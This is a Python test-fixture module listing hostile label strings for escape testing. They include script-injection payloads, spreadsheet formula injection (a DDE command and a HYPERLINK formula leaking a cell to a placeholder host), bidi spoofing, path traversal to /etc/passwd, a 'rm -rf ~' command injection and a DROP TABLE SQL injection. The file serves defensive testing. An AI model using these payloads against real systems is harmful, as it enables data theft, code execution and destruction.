"""Labels that attack whoever shows them: markup, script, links, formulas, control characters and size."""

from __future__ import annotations

MARKUP: tuple[str, ...] = (
    "</script><img src=x onerror=document.title='pwned'>",
    "<script>document.title='pwned'</script>",
    "</title></svg><script>document.title='pwned'</script>",
    "</style><style>*{display:none}</style>",
    "]]><svg onload=document.title='pwned'>",
    "--><script>document.title='pwned'</script><!--",
    "\" onmouseover=\"document.title='pwned'",
    "' onfocus='document.title=1' autofocus='",
    "` onclick=document.title=1",
    "<a href='javascript:document.title=1'>steel</a>",
    "javascript:document.title='pwned'",
    "data:text/html,<script>document.title='pwned'</script>",
    "<iframe srcdoc='<script>top.document.title=1</script>'>",
    "&lt;b&gt; &amp;amp; &#x3C;script&#x3E;",
    "{{7*7}} {% raw %} ${7*7} %(name)s {name} %s",
    "url(http://192.0.2.1/x) @import 'http://192.0.2.1/y';",
)
"""Text that is something else where it is not escaped for the place it stands in."""

FORMULAS: tuple[str, ...] = (
    "=1+1",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"steel")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\0=1+1",
    "\x1f=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "−1+1",
    "'=1+1",
    '"=1+1',
    'steel",=1+1,"',
    "steel;=1+1",
    "steel\n=1+1",
    "#REF!",
)
"""Text that a spreadsheet takes, or may take, for a formula or an error."""

CHARACTERS: tuple[str, ...] = (
    "steel\u202egnp.exe",
    "\u2066steel\u2069",
    "\0",
    "ste\0el",
    "ste\x07el\x1b[31mred\x0b\x0c",
    "\x7f\x80\x9f",
    "\u2028steel\u2029",
    "\ufffe\uffff",
    "_x0041_ _x0000_",
    "a\r\nb\tc",
    "\u0301steel",
    "철강 🏭 فولاد",
    "",
    " ",
)
"""Characters that turn writing round, end a line, cannot stand in XML, or are not there at all."""

NAMES: tuple[str, ...] = (
    "../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "C:\\con",
    "[steel]:*?/\\",
    "'steel'",
    "history",
    "a" * 31 + "1",
    "a" * 31 + "2",
    "-rf",
    "steel && rm -rf ~; $(true) `true`",
    "' OR 1=1; DROP TABLE runs; --",
)
"""Text that is harmful where it becomes the name of a file, a sheet, an option or part of a query."""

HOSTILE: tuple[str, ...] = (*MARKUP, *FORMULAS, *CHARACTERS, *NAMES, "steel " * 1_700)
"""All of them, and a label of 10 kB."""
